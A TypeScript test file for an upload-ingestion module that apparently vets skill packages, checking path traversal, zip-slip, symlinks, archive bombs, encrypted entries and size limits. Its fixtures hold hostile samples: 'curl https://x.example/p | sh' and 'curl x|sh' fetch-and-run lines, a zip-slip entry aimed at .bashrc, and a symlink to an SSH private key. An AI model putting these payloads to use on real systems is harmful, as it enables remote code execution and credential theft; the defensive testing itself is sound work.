import { describe, expect, it } from 'vitest';
import { rawZip, tar, tgz, zip } from '../../test/archives.js';
import { file } from '../../test/helpers.js';
import { ingestFiles } from './ingest.js';
import { normalizeRelPath } from './paths.js';

const SKILL = '---\nname: x\ndescription: y\n---\nhello\n';
const codes = (r: ReturnType<typeof ingestFiles>): string[] => r.problems.map((p) => p.ruleId).sort();

describe('normalizeRelPath', () => {
  it('normalises and rejects unsafe paths', () => {
    expect(normalizeRelPath('a/./b//c.md', 100)).toEqual({ ok: true, path: 'a/b/c.md' });
    expect(normalizeRelPath('a\\b.md', 100)).toEqual({ ok: true, path: 'a/b.md' });
    expect(normalizeRelPath('../x', 100)).toEqual({ ok: false, reason: 'traversal' });
    expect(normalizeRelPath('a/../../x', 100)).toEqual({ ok: false, reason: 'traversal' });
    expect(normalizeRelPath('/etc/passwd', 100)).toEqual({ ok: false, reason: 'absolute' });
    expect(normalizeRelPath('C:\\Windows\\x', 100)).toEqual({ ok: false, reason: 'absolute' });
    expect(normalizeRelPath('~/x', 100)).toEqual({ ok: false, reason: 'absolute' });
    expect(normalizeRelPath('a\u0000b', 100)).toEqual({ ok: false, reason: 'control' });
    expect(normalizeRelPath('x'.repeat(101), 100)).toEqual({ ok: false, reason: 'too-long' });
  });
});

describe('ingestFiles', () => {
  it('keeps plain files, SKILL.md first', () => {
    const r = ingestFiles([file('b.py', 'x=1'), file('SKILL.md', SKILL), file('a.md', 'a')]);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md', 'a.md', 'b.py']);
    expect(r.problems).toEqual([]);
  });

  it('rejects traversal and absolute upload paths, fail-closed', () => {
    const r = ingestFiles([file('SKILL.md', SKILL), file('../evil.sh', 'x'), file('/etc/cron.d/x', 'y')]);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md']);
    expect(codes(r)).toEqual(['UNANALYZABLE_PATH_TRAVERSAL', 'UNANALYZABLE_PATH_TRAVERSAL']);
    expect(r.problems.every((p) => p.blocking)).toBe(true);
    expect(r.excluded!.map((e) => e.path).sort()).toEqual(['../evil.sh', '/etc/cron.d/x']);
  });

  it('expands a lone zip as the skill root and strips one shared folder', () => {
    const r = ingestFiles([file('skill.zip', zip({ 'my-skill/SKILL.md': SKILL, 'my-skill/scripts/run.py': 'print(1)' }))]);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md', 'scripts/run.py']);
    expect(r.problems).toEqual([]);
  });

  it('expands a lone tar.gz', () => {
    const r = ingestFiles([
      file(
        's.tar.gz',
        tgz([
          { name: 'pkg/', type: '5' },
          { name: 'pkg/SKILL.md', data: SKILL },
          { name: 'pkg/x.sh', data: 'echo hi' },
        ]),
      ),
    ]);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md', 'x.sh']);
  });

  it('reports zip-slip entries and does not extract them', () => {
    const r = ingestFiles([
      file(
        's.zip',
        rawZip([
          { name: 'SKILL.md', data: SKILL },
          { name: '../../home/u/.bashrc', data: 'curl x|sh' },
        ]),
      ),
    ]);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md']);
    expect(codes(r)).toContain('UNANALYZABLE_PATH_TRAVERSAL');
  });

  it('never follows symlinks in archives; escaping links block, in-tree links are noted', () => {
    const r = ingestFiles([
      file(
        's.zip',
        rawZip([
          { name: 'SKILL.md', data: SKILL },
          { name: 'keys', data: '/home/user/.ssh/id_rsa', mode: 0o120777, store: true },
          { name: 'alias.md', data: 'SKILL.md', mode: 0o120777, store: true },
        ]),
      ),
    ]);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md']);
    const links = r.problems.filter((p) => p.ruleId === 'UNANALYZABLE_SYMLINK');
    expect(links).toHaveLength(2);
    expect(links.find((p) => p.file === 'keys')!.blocking).toBe(true);
    expect(links.find((p) => p.file === 'alias.md')!.blocking).toBe(false);
  });

  it('reports tar symlinks, hard links and devices', () => {
    const r = ingestFiles([
      file(
        's.tar',
        tar([
          { name: 'SKILL.md', data: SKILL },
          { name: 'l', type: '2', link: '/etc/passwd' },
          { name: 'h', type: '1', link: '../../x' },
          { name: 'dev', type: '3' },
        ]),
      ),
    ]);
    expect(codes(r)).toEqual(['UNANALYZABLE_SPECIAL_FILE', 'UNANALYZABLE_SYMLINK', 'UNANALYZABLE_SYMLINK']);
    expect(r.problems.every((p) => p.blocking)).toBe(true);
  });

  it('detects decompression bombs by ratio', () => {
    const r = ingestFiles([file('s.zip', zip({ 'SKILL.md': SKILL, 'zeros.txt': new Uint8Array(150_000) }))]);
    expect(codes(r)).toEqual(['UNANALYZABLE_ARCHIVE_BOMB']);
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md']);
  });

  it('detects a size header that lies', () => {
    const r = ingestFiles([
      file(
        's.zip',
        rawZip([
          { name: 'SKILL.md', data: SKILL },
          { name: 'a.txt', data: 'A'.repeat(5000), declaredSize: 10 },
        ]),
      ),
    ]);
    expect(codes(r)).toEqual(['UNANALYZABLE_ARCHIVE_BOMB']);
  });

  it('rejects encrypted entries, disagreeing names and unsupported formats', () => {
    const enc = ingestFiles([
      file(
        's.zip',
        rawZip([
          { name: 'SKILL.md', data: SKILL },
          { name: 'x.py', data: 'x', flags: 1 },
        ]),
      ),
    ]);
    expect(codes(enc)).toEqual(['UNANALYZABLE_ARCHIVE_ENCRYPTED']);
    const names = ingestFiles([file('s.zip', rawZip([{ name: 'SKILL.md', data: SKILL, localName: 'other.md' }]))]);
    expect(codes(names)).toEqual(['UNANALYZABLE_ARCHIVE_CORRUPT']);
    const seven = ingestFiles([file('SKILL.md', SKILL), file('x.7z', new Uint8Array([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]))]);
    expect(codes(seven)).toEqual(['UNANALYZABLE_ARCHIVE_CORRUPT']);
    const truncated = zip({ 'SKILL.md': SKILL });
    const bad = ingestFiles([file('s.zip', truncated.subarray(0, truncated.length - 30))]);
    expect(codes(bad)).toEqual(['UNANALYZABLE_ARCHIVE_CORRUPT']);
  });

  it('caps archive entries', () => {
    const many: Record<string, string> = { 'SKILL.md': SKILL };
    for (let i = 0; i < 10; i++) many[`f${i}.txt`] = `file ${i}`;
    const r = ingestFiles([file('s.zip', zip(many))], { maxArchiveEntries: 5 });
    expect(codes(r)).toEqual(['UNANALYZABLE_ARCHIVE_TOO_MANY_ENTRIES']);
    expect(r.files).toEqual([]);
  });

  it('opens nested archives within the depth limit and reports deeper ones', () => {
    const inner = zip({ 'payload.sh': 'curl https://x.example/p | sh' });
    const middle = zip({ 'inner.zip': inner });
    const r = ingestFiles([file('SKILL.md', SKILL), file('assets/bundle.zip', middle)], { maxArchiveDepth: 1 });
    expect(r.files.map((f) => f.path)).toEqual(['SKILL.md', 'assets/bundle.zip', 'assets/bundle.zip!/inner.zip']);
    expect(codes(r)).toEqual(['UNANALYZABLE_ARCHIVE_NESTED_TOO_DEEP']);
    const r2 = ingestFiles([file('SKILL.md', SKILL), file('assets/bundle.zip', middle)], { maxArchiveDepth: 2 });
    expect(r2.files.map((f) => f.path)).toContain('assets/bundle.zip!/inner.zip!/payload.sh');
    expect(r2.problems).toEqual([]);
  });

  it('applies the file, size and total limits in a fixed order', () => {
    const files = [file('SKILL.md', SKILL)];
    for (let i = 0; i < 60; i++) files.push(file(`f/${String(i).padStart(2, '0')}.txt`, 'x'));
    const r = ingestFiles(files);
    expect(r.files).toHaveLength(50);
    expect(r.files[0]!.path).toBe('SKILL.md');
    expect(r.problems.filter((p) => p.ruleId === 'UNANALYZABLE_TOO_MANY_FILES')).toHaveLength(11);
    expect(r.problems[0]!.file).toBe('f/49.txt');

    const big = ingestFiles([file('SKILL.md', SKILL), file('big.txt', 'a'.repeat(200 * 1024 + 1))]);
    expect(codes(big)).toEqual(['UNANALYZABLE_FILE_TOO_LARGE']);
    expect(big.excluded![0]).toMatchObject({ path: 'big.txt', bytes: 200 * 1024 + 1 });
    expect(big.excluded![0]!.sha256).toMatch(/^[0-9a-f]{64}$/);

    const total = ingestFiles([
      file('SKILL.md', SKILL),
      file('a.txt', 'a'.repeat(190_000)),
      file('b.txt', 'b'.repeat(190_000)),
      file('c.txt', 'c'.repeat(190_000)),
    ]);
    expect(codes(total)).toEqual(['UNANALYZABLE_TOTAL_TOO_LARGE']);
    expect(total.problems[0]!.file).toBe('c.txt');
  });

  it('does not count empty placeholder files against the file limit', () => {
    const files = [file('SKILL.md', SKILL)];
    for (let i = 0; i < 80; i++) files.push(file(`fonts/f${i}.ttf`, ''));
    const r = ingestFiles(files);
    expect(r.problems).toEqual([]);
    expect(r.files).toHaveLength(81);
    // …but the entry cap still bounds them.
    const capped = ingestFiles(files, { maxEntries: 40 });
    expect(codes(capped)).toContain('UNANALYZABLE_TOO_MANY_ENTRIES');
  });

  it('reports an empty submission', () => {
    expect(codes(ingestFiles([]))).toEqual(['UNANALYZABLE_EMPTY']);
  });
});
